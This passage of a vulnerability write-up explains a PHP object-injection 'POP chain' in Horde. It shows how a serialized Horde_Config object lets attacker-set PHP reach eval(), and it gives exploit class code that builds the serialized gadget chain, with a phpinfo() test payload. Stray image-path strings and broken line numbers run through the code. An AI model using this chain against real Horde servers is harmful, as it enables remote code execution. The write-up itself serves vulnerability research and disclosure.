At line 179 there’s an eval() call using the value returned by the Horde_Config::getPHPConfig() method:246    public function getPHPConfig()
247    {
248        if (!is_null($this->_oldConfig)) {
249            return $this->_oldConfig;
250        }

This method returns the value of the _oldConfig property, in case it’s not null, otherwise it will return the content of the conf.php file. Basically this means that two changes are required in order to make the “POP chain” working on a default installation: the first one is a replacement of the Horde_Date_Parser_Token object with an Horde_Config object containing the PHP payload within its _oldConfig property. While the second one is that the _prefnames['identities'] property of the Horde_Prefs_Identity object should be set to false, and that’s because that value is being passed as the $custom_conf parameter of the readXMLConfig() method, which is used as condition of the if statement at line 175. The new resulting “POP chain” can be made by the following:

 1class Horde_Config
 3   protected $_oldConfig = "phpinfo();die;";
 6class Horde_Prefs_Scope
 8   protected $_prefs = array(1);
11class Horde_Prefs
13   protected $_opts, $_scopes;
15   function __construct()
16   {
17      $this->_opts['sizecallback'] = array(new Horde_Config,'readXMLConfig');
18      $this->_scopes['horde'] = new Horde_Prefs_Scope;
19   }
22class Horde_Prefs_Identity
24   protected $_prefs, $_prefnames;
26   function __construct()
27   {
28$this->_prefs = new Horde_Prefs;29      $this->_prefnames['identities'] = 0;
30   }
33class Horde_Kolab_Server_Decorator_Clean
35   private $_server, $_added = array(1);
37   function __construct()
38{
39      $this->_server = newHorde_Prefs_Identity;
40   }
43$popchain = serialize(newHorde_Kolab_Server_Decorator_Clean);